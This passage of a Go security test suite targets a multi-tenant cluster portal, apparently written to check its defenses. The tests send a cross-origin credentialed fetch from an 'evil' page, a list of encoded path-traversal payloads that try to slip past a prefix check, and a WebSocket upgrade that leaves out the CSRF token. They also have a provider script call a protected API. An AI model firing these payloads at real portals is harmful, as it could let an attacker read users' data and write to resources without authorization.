	for _, p := range []string{"/api/whoami", "/auth/session", "/ui/", "/clusters/" + a.aliceW.Home.Path + "/api/v1/namespaces", "/services/providers/portalprobe/headers"} {
		for _, m := range []string{"GET", "OPTIONS"} {
			hdr := map[string]string{"Origin": a.evil, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"}
			if m == "OPTIONS" {
				hdr["Access-Control-Request-Method"] = "POST"
				hdr["Access-Control-Request-Headers"] = "x-wharf-csrf,content-type"
			}
			_, _, h := a.do(t, m, p, "", hdr, sessionCookie(a.alice.cookie))
			acao := h.Get("Access-Control-Allow-Origin")
			if acao == a.evil || (acao == "*" && h.Get("Access-Control-Allow-Credentials") == "true") || acao == "null" {
				t.Errorf("ATTACK SUCCEEDED: %s %s allows origin %s (ACAO %q, ACAC %q)", m, p, a.evil, acao, h.Get("Access-Control-Allow-Credentials"))
			}
		}
	}
	// And from the evil page in alice's browser: a credentialed read.
	b := a.b.in(t)
	a.setEvil(`<!doctype html><html><body><script>
window.__r = fetch("` + a.hub.URL + `/api/whoami", {credentials: "include"}).then(r => r.text()).catch(e => "blocked: " + e);
</script></body></html>`)
	b.do("visit the evil page", chromedp.Navigate(a.evil+"/cors"))
	got := eval[string](b, `window.__r`)
	if strings.Contains(got, "alice") {
		t.Errorf("ATTACK SUCCEEDED: the evil origin read alice's whoami: %s", got)
	}
}

func (a *attackEnv) serverNormalize(t *testing.T) {
	home := a.aliceW.Home.Path
	hdr := map[string]string{"Content-Type": "application/json", "Origin": a.hub.URL, "X-Wharf-CSRF": a.alice.csrf, "X-Wharf-Workspace": home}
	for i, p := range []string{
		"/services/providers/portalprobe/..%2f..%2f..%2fclusters%2f" + home + "%2fapis%2ftenancy.wharf.dev%2fv1alpha1%2fworkspaces",
		"/services/providers/portalprobe/..%2f..%2f..%2f" + strings.TrimPrefix(a.wsCollection(home), "/"),
		"/services/providers/portalprobe/..%5c..%5c..%5c" + strings.TrimPrefix(a.wsCollection(home), "/"),
		"/services/providers/portalprobe/..;/..;/..;/" + strings.TrimPrefix(a.wsCollection(home), "/"),
		"/clusters/" + home + "/apis/g.example.com/..%2f..%2f..%2fapis/tenancy.wharf.dev/v1alpha1/workspaces",
		"/clusters/" + home + "/apis/g.example.com/..%2f..%2f..%2fapis%2ftenancy.wharf.dev%2fv1alpha1%2fworkspaces",
		"/clusters/" + home + "/apis/g.example.com/%2e%2e/%2e%2e/%2e%2e/apis/tenancy.wharf.dev/v1alpha1/workspaces",
		"/clusters/" + home + "/apis/g.example.com/../../apis/tenancy.wharf.dev/v1alpha1/workspaces",
		"/clusters/" + home + "/apis/g.example.com/..%5c..%5capis/tenancy.wharf.dev/v1alpha1/workspaces",
	} {
		name := fmt.Sprintf("norm-%d", i)
		code, body, _ := a.do(t, "POST", p, wsJSON(name), hdr, sessionCookie(a.alice.cookie))
		t.Logf("%s → %d %.120s", p, code, body)
		if a.exists(t, home, name) {
			t.Errorf("ATTACK SUCCEEDED: POST %s (a path the shell's prefix check lets a provider write) created a workspace", p)
		}
	}
}

func (a *attackEnv) cookieUpgrade(t *testing.T) {
	ws := map[string]string{"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13",
		"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Origin": a.hub.URL, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "websocket"}
	for _, p := range []string{
		"/services/providers/portalprobe/headers",
		"/clusters/" + a.aliceW.Home.Path + "/api/v1/namespaces?watch=1",
	} {
		code, body, _ := a.do(t, "GET", p, "", ws, sessionCookie(a.alice.cookie))
		if code != http.StatusForbidden {
			t.Errorf("ATTACK SUCCEEDED: a same-origin cookie websocket upgrade without the CSRF token to %s got %d %.200s, want 403: "+
				"a provider script could exec into pods or open the edges ssh pipe as the user", p, code, body)
		}
	}
	// And from the page, the browser's own WebSocket (it cannot add the header).
	b := a.toHome(t)
	got := eval[string](b, `new Promise(res => { const w = new WebSocket("wss://" + location.host + "/services/providers/portalprobe/headers"); w.onopen = () => res("open"); w.onerror = () => res("error"); setTimeout(() => res("timeout"), 5000); })`)
	if got == "open" {
		t.Errorf("ATTACK SUCCEEDED: the page's cookie websocket opened")
	}
}

func (a *attackEnv) groupClaim(t *testing.T) {
	entry := a.admin(t, "GET", "/clusters/root/apis/providers.wharf.dev/v1alpha1/catalogentries/portalclaim", "", 200)
	t.Logf("portalclaim's CatalogEntry: %.600s", entry)
	b := a.b.in(t)
	b.do("open portalclaim", chromedp.Navigate(a.hub.URL+"/ui/providers/portalclaim/?ws="+url.QueryEscape(a.aliceW.Home.Path)))
	b.waitState("ready")
	b.do("portalclaim mounted", chromedp.WaitReady(`wharf-provider-portalclaim[data-mounted="true"]`))
	home := a.aliceW.Home.Path
	edge := `{"apiVersion":"edges.wharf.dev/v1alpha1","kind":"Edge","metadata":{"name":"claimed"},"spec":{"type":"kubernetes"}}`
	var got string
	eventually(t, 30*time.Second, func() error {
		got = eval[string](b, `(async () => { const api = document.querySelector("wharf-provider-portalclaim").api; try { const r = await api.fetch(`+
			jsString("/clusters/"+home+"/apis/edges.wharf.dev/v1alpha1/edges")+`, {method: "POST", headers: {"Content-Type": "application/json"}, body: `+jsString(edge)+`}); return r.status + " " + (await r.text()).slice(0, 300); } catch (e) { return "refused: " + e; } })()`)
		if strings.HasPrefix(got, "refused") && strings.Contains(got, "outside") {
			return nil // the shell refused it; wait no longer
		}
		if strings.HasPrefix(got, "201") || strings.HasPrefix(got, "403") || strings.HasPrefix(got, "4") {
			return nil
		}
		return fmt.Errorf("api.fetch: %s", got)
	})
	t.Logf("portalclaim's api.fetch POST of an Edge: %s", got)
	if !strings.HasPrefix(got, "refused") && !strings.Contains(got, "cross-site request refused") {
		t.Errorf("ATTACK SUCCEEDED: a provider that claims a CRD in edges.wharf.dev got the CSRF token for the edges API: the write reached the API (%s)", got)
	}
}
